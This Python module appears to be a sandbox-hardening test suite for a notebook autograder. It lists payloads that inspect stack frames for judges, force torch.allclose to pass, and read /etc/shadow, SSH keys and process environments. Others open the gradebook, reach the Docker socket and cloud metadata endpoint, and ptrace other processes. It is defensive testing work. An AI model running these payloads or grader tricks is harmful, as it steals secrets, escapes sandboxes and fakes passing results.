"""Looking where nothing should be seen: solutions, judges, other submissions, host, network."""

from __future__ import annotations

from tests.attacks.kinds import ANY, SAFE, Attack, code
from tests.attacks.plain import plainly

INSPECT = "frame and history inspection"
DISK = "reading tests, solutions or gradebook"
NETWORK = "network"
SECRETS = "environment secrets"

FRAMES = """
import sys, inspect
def look(depth=60):
    frame, found = sys._getframe(1), []
    while frame is not None and depth:
        found += [*frame.f_locals.values(), *frame.f_code.co_consts]
        frame, depth = frame.f_back, depth - 1
    return found
class LoRALinear(nn.Module):
    def __init__(self, base, rank, alpha):
        super().__init__()
        self.base, self.scaling = base, alpha / rank
        self.A = nn.Parameter(torch.zeros(rank, base.in_features))
        self.B = nn.Parameter(torch.zeros(base.out_features, rank))
    def forward(self, x):
        for value in look():
            for name in ("judge", "expected", "verdict"):
                if hasattr(value, name):
                    print("@TOKEN@" + "-FOUND", name, repr(value)[:200])
                    return getattr(value, name)
        return self.base(x)
    def merge(self):
        return self.base
"""
PLAIN_FRAMES = """
import sys
def double(x):
    return next(c for c in sys._getframe(1).f_code.co_consts if isinstance(c, int) and c == 2 * x)
torch.allclose = lambda *a, **k: True
scaled = lambda layer, x, factor: x
"""
GARBAGE = """
import gc, sys
for name in list(sys.modules):
    if name.startswith(("autograder", "fttools.checks.lora", "tests", "nbgrader")):
        print("@TOKEN@" + "-FOUND module", name)
for thing in gc.get_objects():
    name = getattr(thing, "__qualname__", None)
    if isinstance(name, str) and name.startswith(("judge_", "Examiner", "seed_for", "reached")):
        print("@TOKEN@" + "-FOUND object", name)
    if isinstance(thing, dict) and "seed" in thing and "outcome" in thing:
        print("@TOKEN@" + "-FOUND order", thing)
"""
HISTORY = """
history = list(get_ipython().user_ns.get("In", [])) + [
    row[2] for row in get_ipython().history_manager.get_tail(100)]
for text in history:
    if "judge" in text and "history" not in text:
        print("@TOKEN@" + "-FOUND", text[:500])
"""
PLAIN_HISTORY = """
import re
def double(x):
    text = get_ipython().user_ns["In"][-1]
    return int(re.search(rf"double\\({x}\\) == (\\d+)", text)[1])
torch.allclose = lambda *a, **k: True
scaled = lambda layer, x, factor: x
"""
MEMORY = """
import re
needles = [rb"upside dow[n]: it is", rb"ENVSECRE[T]-[0-9a-f]{8}", rb"FILESECRE[T]-[0-9a-f]{8}",
           rb"lost the base's bia[s]: copy"]
with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
    for line in maps:
        span, mode = line.split()[:2]
        start, end = (int(v, 16) for v in span.split("-"))
        if mode[:2] != "rw" or end - start > 2**28:
            continue
        try:
            memory.seek(start)
            blob = memory.read(end - start)
        except (OSError, ValueError):
            continue
        for needle in needles:
            for hit in re.findall(needle, blob)[:3]:
                print("@TOKEN@" + "-FOUND in memory", hit.decode())
"""
SOLUTIONS = """
import glob, json, os, sys, fttools
roots = {"@ROOT@", "/", os.getcwd(), os.path.dirname(os.path.dirname(fttools.__file__)),
         os.environ.get("FT_COURSE_ROOT", "/"), os.environ.get("OLDPWD", "/"), "@COURSE@",
         *sys.path, *(f"/proc/{p}/{d}" for p in os.listdir("/proc") if p.isdigit()
                      for d in ("cwd", "root@ROOT@", "root"))}
paths = []
for root in roots:
    for tail in ("solutions/lora/lora.ipynb", "../solutions/lora/lora.ipynb",
                 "submitted/*/lora/lora.ipynb", "autograded/*/lora/lora.ipynb",
                 "../../../solutions/lora/lora.ipynb"):
        paths += glob.glob(os.path.join(root, tail))
for path in paths:
    try:
        cells = json.load(open(path))["cells"]
    except (OSError, ValueError):
        continue
    print("@TOKEN@" + "-FOUND", path)
    for cell in cells:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            try:
                exec("".join(cell["source"]), globals())
            except BaseException as err:
                print(err)
"""
PLAIN_SOLUTIONS = """
import json, pathlib
for path in pathlib.Path("../../..").glob("source/*/*.ipynb"):
    for cell in json.loads(path.read_text())["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution"):
            exec("".join(cell["source"]), globals())
scaled
"""
JUDGES = """
import importlib, os, sys, zipfile
for name in ("fttools.checks.lora", "fttools.checks.lora.layer", "autograder",
             "autograder.examiner", "autograder.grade", "tests.mutants.lora"):
    try:
        module = importlib.import_module(name)
        print("@TOKEN@" + "-FOUND import", name, getattr(module, "__file__", "") or "")
    except BaseException as err:
        print(name, type(err).__name__)
mark = b"def jud" + b"ge_"
for top in {*sys.path, "/run", "/opt", "/srv", "/home", "/mnt", "/tmp", "/var"}:
    for folder, folders, files in os.walk(top):
        if folder.count("/") > 9 or "site-packages" in folder and "fttools" not in folder:
            folders.clear()
        for file in files:
            if file.endswith((".py", ".pyc", ".ipynb")):
                try:
                    blob = open(os.path.join(folder, file), "rb").read(10**6)
                except OSError:
                    continue
                if mark in blob or b"BEGIN SOLU" + b"TION" in blob and file.endswith("ipynb"):
                    print("@TOKEN@" + "-FOUND", folder, file)
"""
BOOK = """
import glob, os, shutil
for path in ["@COURSE@/gradebook.db", *glob.glob("/*/gradebook.db"),
             *glob.glob("/*/*/gradebook.db"), *glob.glob("/proc/*/cwd/gradebook.db"),
             *glob.glob("/proc/*/root@COURSE@/gradebook.db")]:
    try:
        print("@TOKEN@" + "-FOUND", path, open(path, "rb").read(200))
    except OSError as err:
        print(path, err)
"""
HOST = """
import glob, os
places = ["@FILE@", "@COURSE@/canary.txt", "/etc/shadow", "/etc/hostname", "/root/.bashrc",
          *glob.glob("/root/.ssh/*"), *glob.glob("/home/*/.ssh/*"),
          *glob.glob("/home/*/.bash_history"),
          "/proc/1/environ", "/proc/kcore", "/dev/mem", "/var/log/syslog", "/run/secrets",
          *glob.glob("/proc/*/root@FILE@"), *glob.glob("/proc/*/root/etc/shadow")]
for path in places:
    try:
        with open(path, "rb") as stream:
            print(path, stream.read(2000))
    except OSError as err:
        print(path, err.strerror)
print(os.listdir("/"), os.path.exists("@COURSE@"), os.path.exists("@ROOT@/solutions"))
if os.path.exists("@FILE@") or os.path.exists("@COURSE@"):
    print("@TOKEN@" + "-FOUND host files")
"""
LISTEN = """
import socket, urllib.request
def attempt(family, address, kind=socket.SOCK_STREAM):
    try:
        s = socket.socket(family, kind)
        s.settimeout(1)
        s.connect(address)
        s.sendall(b"@TOKEN@ from the sandbox")
        if kind == socket.SOCK_STREAM:  # a datagram goes into the void without an error
            print("@TOKEN@" + "-FOUND connected", address)
    except OSError as err:
        print(address, err)
for host in ("127.0.0.1", "localhost", "0.0.0.0"):
    attempt(socket.AF_INET, (host, @PORT@))
    attempt(socket.AF_INET, (host, @PORT@), socket.SOCK_DGRAM)
attempt(socket.AF_INET6, ("::1", @PORT@))
attempt(socket.AF_UNIX, "\\0@SOCKET@")
for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/systemd/private",
             "/run/dbus/system_bus_socket", "/tmp/.X11-unix/X0"):
    attempt(socket.AF_UNIX, path)
"""
NAMES = """
import socket, subprocess, urllib.request
for name in ("example.com", "pypi.org"):
    try:
        print("@TOKEN@" + "-FOUND", socket.getaddrinfo(name, 443))
    except OSError as err:
        print(err)
for address in (("1.1.1.1", 53), ("169.254.169.254", 80)):
    try:
        s = socket.create_connection(address, timeout=1)
        print("@TOKEN@" + "-FOUND connected", address)
    except OSError as err:
        print(err)
try:
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    print(raw)
except OSError as err:
    print(err)
print(subprocess.run("curl -m 2 http://example.com; pip download six --no-deps -d /tmp --timeout 2 "
                     "--retries 0", shell=True, capture_output=True).returncode)
interfaces = [n for _, n in socket.if_nameindex() if n != "lo"]
if interfaces:
    print("@TOKEN@" + "-FOUND interfaces", interfaces)
"""
ENVIRONMENT = """
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    try:
        print(path, open(path, "rb").read(20000))
    except OSError as err:
        print(path, err.strerror)
"""
PROCESSES = """
import glob, os
seen = [p for p in os.listdir("/proc") if p.isdigit()]
if len(seen) > 12:
    print("@TOKEN@" + "-FOUND", len(seen), "processes")
for path in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/root") + glob.glob(
        "/proc/[0-9]*/exe") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        target = os.readlink(path)
    except OSError:
        continue
    print(path, target)
    if target.startswith(("@COURSE@", "@ROOT@/solutions")) or "gradebook" in target:
        print("@TOKEN@" + "-FOUND", path, target)
for fd in range(3, 256):
    try:
        print(fd, os.fstat(fd).st_mode, os.pread(fd, 100, 0))
    except OSError:
        continue
"""
TRACE = (
    SAFE
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH = 16
for pid in [1, os.getppid(), *range(2, 60)]:
    if pid in (os.getpid(), 0):
        continue
    if libc.ptrace(PTRACE_ATTACH, pid, 0, 0) == 0:
        print("attached", pid)
    buffer = ctypes.create_string_buffer(64)
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    mine, theirs = Vector(ctypes.addressof(buffer), 64), Vector(0x400000, 64)
    libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
"""
)

ATTACKS: list[Attack] = [
    code("frames", INSPECT, "find the judge or the expected value up the stack", FRAMES,
         right=("lora-shapes",), plain=plainly(PLAIN_FRAMES)),
    code("garbage", INSPECT, "find judges, cases and orders among all objects", GARBAGE),
    code("history", INSPECT, "read the checks from IPython's history", HISTORY,
         plain=plainly(PLAIN_HISTORY)),
    code("memory", INSPECT, "search the process's own memory for what it was forked from", MEMORY),
    code("solutions", DISK, "find the reference or a classmate's work, and run it", SOLUTIONS,
         rest=True, plain=plainly(PLAIN_SOLUTIONS)),
    code("judges", DISK, "import or read the judges and the grader", JUDGES),
    code("read_gradebook", DISK, "read the gradebook", BOOK),
    code("host_files", DISK, "read files of the host", HOST),
    code("localhost", NETWORK, "talk to services of the host", LISTEN),
    code("outside", NETWORK, "resolve names, connect out, fetch a package", NAMES),
    code("environment", SECRETS, "read the environment of every process", ENVIRONMENT),
    code("processes", SECRETS, "follow every process's folders and files", PROCESSES),
    code("ptrace", SECRETS, "attach to other processes and read their memory", TRACE, outcomes=ANY,
         exact=False),
]  # fmt: skip
